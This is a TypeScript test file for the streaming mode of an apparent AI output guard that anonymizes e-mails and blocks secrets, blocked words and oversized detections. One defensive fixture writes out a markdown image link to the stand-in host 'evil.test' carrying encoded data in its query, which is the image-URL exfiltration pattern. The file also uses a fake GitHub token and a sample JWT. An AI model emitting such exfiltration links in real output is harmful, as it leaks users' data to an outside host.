import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createGuard, type GuardDetection } from '../../src/guard/guard.js';
import {
  DEFAULT_TAIL_CHARS,
  MAX_HOLD_CHARS,
  DEFAULT_SCAN_EVERY_CHARS,
  type GuardStream,
  type StreamDecision,
} from '../../src/guard/stream.js';

const GITHUB_TOKEN = 'ghp_R4nd0mT0k3nV4lu3F0rT3st1ngAbCdEf1234';

const guard = createGuard({
  sensitiveInformationPolicy: {
    piiEntities: [
      { type: 'EMAIL', action: 'ANONYMIZE' },
      { type: 'US_SOCIAL_SECURITY_NUMBER', action: 'BLOCK' },
    ],
  },
  secrets: { action: 'BLOCK' },
  invisibleText: { action: 'ANONYMIZE' },
  wordPolicy: { words: ['project zephyr'] },
});

/** Splits text at the given cut points. */
function chunksOf(text: string, cuts: number[]): string[] {
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
  const out: string[] = [];
  let last = 0;
  for (const p of points) {
    out.push(text.slice(last, p));
    last = p;
  }
  out.push(text.slice(last));
  return out;
}

function run(stream: GuardStream, chunks: readonly string[]): { decisions: StreamDecision[]; text: string } {
  const decisions: StreamDecision[] = [];
  for (const chunk of chunks) {
    const d = stream.push(chunk);
    decisions.push(d);
    if (d.done) break;
  }
  if (!decisions.some((d) => d.done)) decisions.push(stream.end());
  return { decisions, text: decisions.map((d) => d.text).join('') };
}

const key = (d: GuardDetection): string => `${d.type}:${d.entity ?? ''}:${d.start}:${d.end}:${d.action}`;

const filler = 'The quarterly report covers revenue, costs and the outlook for the next year. ';
const samples = [
  `${filler.repeat(4)}Write to jane.doe@example.com for the full figures. ${filler.repeat(3)}`,
  `${filler}Contacts: a@example.com, b.c@example.org and d@example.net.${filler.repeat(6)}`,
  `Short one with jane@example.com`,
  `${filler.repeat(5)}here is the token ${GITHUB_TOKEN} do not share${filler}`,
  `${filler.repeat(2)}Tell me about Project Zephyr and its budget.`,
  `${filler}hidden\u200B\u200Bmarks\u2066 and plain text${filler.repeat(3)}`,
  `${filler.repeat(8)}`,
];

describe('guard.stream', () => {
  it('decides the same as check() on the same text, however it is chunked', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...samples),
        fc.array(fc.nat({ max: 2000 }), { maxLength: 40 }),
        (text, cuts) => {
          const whole = guard.check({ text, direction: 'output' });
          const { decisions, text: released } = run(guard.stream('output'), chunksOf(text, cuts));
          const streamed = decisions.flatMap((d) => d.detections);
          if (whole.action === 'block') {
            expect(decisions.at(-1)!.action).toBe('block');
            expect(released.length).toBeLessThan(text.length);
          } else {
            expect(decisions.some((d) => d.action === 'block')).toBe(false);
            expect(released).toBe(whole.text);
            expect(streamed.map(key).sort()).toEqual(whole.detections.map(key).sort());
          }
        },
      ),
      { numRuns: 150 },
    );
  });

  it('never throws on arbitrary chunks (split surrogate pairs included) and releases what check() returns', () => {
    const g = createGuard({
      ...guard.policy,
      output: { allowedDomains: [], urlAction: 'ANONYMIZE', htmlAction: 'ANONYMIZE' },
    });
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 600 }),
          fc.string({ unit: 'grapheme', maxLength: 300 }),
        ),
        fc.array(fc.nat({ max: 700 }), { maxLength: 30 }),
        (text, cuts) => {
          const whole = g.check({ text, direction: 'output' });
          const { decisions, text: released } = run(g.stream('output'), chunksOf(text, cuts));
          if (whole.action !== 'block' && decisions.every((d) => d.action !== 'block'))
            expect(released).toBe(whole.text);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('holds back at most the tail window of plain text', () => {
    const stream = guard.stream('output');
    let maxHeld = 0;
    for (let i = 0; i < 200; i++) {
      stream.push(`word${i} and some more text, `);
      maxHeld = Math.max(maxHeld, stream.heldChars);
    }
    // the tail, moved back to the start of the word it would cut, plus what waits for the next scan
    expect(maxHeld).toBeLessThanOrEqual(DEFAULT_TAIL_CHARS + 'word199'.length + DEFAULT_SCAN_EVERY_CHARS);
    expect(stream.heldChars).toBeGreaterThan(0);
    const last = stream.end();
    expect(last.done).toBe(true);
    expect(stream.heldChars).toBe(0);
  });

  it('catches a secret split across chunks before any of it is released', () => {
    const prefix = filler.repeat(10);
    const text = `${prefix}token=${GITHUB_TOKEN} and more ${filler.repeat(5)}`;
    const at = text.indexOf(GITHUB_TOKEN) + 10;
    const stream = guard.stream('output');
    const chunks = [text.slice(0, at), text.slice(at)];
    const { decisions, text: released } = run(stream, chunks);
    expect(decisions.at(-1)).toMatchObject({ action: 'block', done: true });
    expect(decisions.at(-1)!.detections[0]).toMatchObject({
      type: 'secret',
      start: text.indexOf(GITHUB_TOKEN),
    });
    expect(released).not.toContain('ghp_');
    expect(released.length).toBeGreaterThan(0);
    // nothing more after a block
    expect(stream.push('more text')).toMatchObject({ action: 'block', text: '', done: true });
  });

  it('holds a secret longer than the tail until it is whole (a JWT streamed a few characters at a time)', () => {
    const b64 = (o: object): string => Buffer.from(JSON.stringify(o)).toString('base64url');
    const jwt = `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64({
      sub: '1234567890',
      scope: 'read:all write:all delete:all',
      iat: 1516239022,
      aud: 'https://api.example.com/v1/resources/customers',
      iss: 'https://login.example.com/tenant/123456',
    })}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c`;
    expect(jwt.length).toBeGreaterThan(DEFAULT_TAIL_CHARS);
    const text = `${filler.repeat(3)}Use Authorization: Bearer ${jwt} for the call. ${filler}`;
    const pieces: string[] = [];
    for (let i = 0; i < text.length; i += 5) pieces.push(text.slice(i, i + 5));
    const { decisions, text: released } = run(guard.stream('output'), pieces);
    expect(decisions.at(-1)).toMatchObject({ action: 'block', done: true });
    expect(released).not.toContain(jwt.slice(0, 12));
  });

  it('anonymizes an e-mail address split over many tiny chunks', () => {
    const text = `${filler.repeat(3)}mail jane.doe@example.com today`;
    const { text: released, decisions } = run(guard.stream('output'), [...text]);
    expect(released).toBe(`${filler.repeat(3)}mail {EMAIL} today`);
    expect(decisions.some((d) => d.action === 'anonymize')).toBe(true);
  });

  it('restores vault tokens split across chunks in a streamed answer', () => {
    const g = createGuard({
      sensitiveInformationPolicy: {
        piiEntities: [{ type: 'EMAIL', action: 'ANONYMIZE', outputAction: 'NONE' }],
      },
      anonymization: { mode: 'token' },
    });
    expect(g.check({ text: 'write to jane@example.com' }).text).toBe('write to {EMAIL_1}');
    const answer = `${filler.repeat(4)}Dear {EMAIL_1}, thanks.`;
    const at = answer.indexOf('{EMAIL_1}') + 3;
    const { text } = run(g.stream('output'), [answer.slice(0, at), answer.slice(at)]);
    expect(text).toBe(`${filler.repeat(4)}Dear jane@example.com, thanks.`);
    // tokens the stream makes itself stay tokens
    const t = createGuard({
      sensitiveInformationPolicy: { piiEntities: [{ type: 'EMAIL', action: 'ANONYMIZE' }] },
      anonymization: { mode: 'token' },
    });
    t.check({ text: 'write to jane@example.com' });
    const reply = `${filler.repeat(2)}Dear {EMAIL_1}, cc bob@example.org. ${filler}`;
    expect(run(t.stream('output'), [...reply]).text).toBe(t.check({ text: reply, direction: 'output' }).text);
    expect(t.check({ text: reply, direction: 'output' }).text).toContain(
      'Dear jane@example.com, cc {EMAIL_2}.',
    );
  });

  it('fails closed when one detection keeps growing past the hold limit, instead of buffering it', () => {
    const g = createGuard({ output: { allowedDomains: [], urlAction: 'ANONYMIZE', htmlAction: 'NONE' } });
    const stream = g.stream('output');
    let last: StreamDecision | undefined;
    let maxHeld = 0;
    const pieces = [
      'Here: ![x](https://evil.test/c?d=',
      ...Array.from({ length: 400 }, () => 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo'.repeat(3)),
    ];
    for (const piece of pieces) {
      last = stream.push(piece);
      maxHeld = Math.max(maxHeld, stream.heldChars);
      if (last.done) break;
    }
    expect(last).toMatchObject({
      action: 'block',
      done: true,
      reason: expect.stringContaining(`${MAX_HOLD_CHARS} characters`),
    });
    expect(maxHeld).toBeLessThanOrEqual(MAX_HOLD_CHARS + DEFAULT_TAIL_CHARS + 200);
  });

  it('stops a stream that grows past maxInputChars', () => {
    const g = createGuard({ maxInputChars: 1000 });
    const stream = g.stream('output');
    let last: StreamDecision | undefined;
    for (let i = 0; i < 20 && !last?.done; i++) last = stream.push('x'.repeat(100));
    expect(last).toMatchObject({ action: 'block', done: true });
    expect(last!.reason).toContain('maxInputChars');
  });

  it('works as an async iterator over chunks', async () => {
    const text = `${filler.repeat(3)}mail jane.doe@example.com today`;
    async function* source(): AsyncGenerator<string> {
      for (let i = 0; i < text.length; i += 7) yield text.slice(i, i + 7);
    }
    let out = '';
    for await (const decision of guard.checkStream(source(), 'output')) out += decision.text;
    expect(out).toBe(guard.check({ text, direction: 'output' }).text);
  });
});
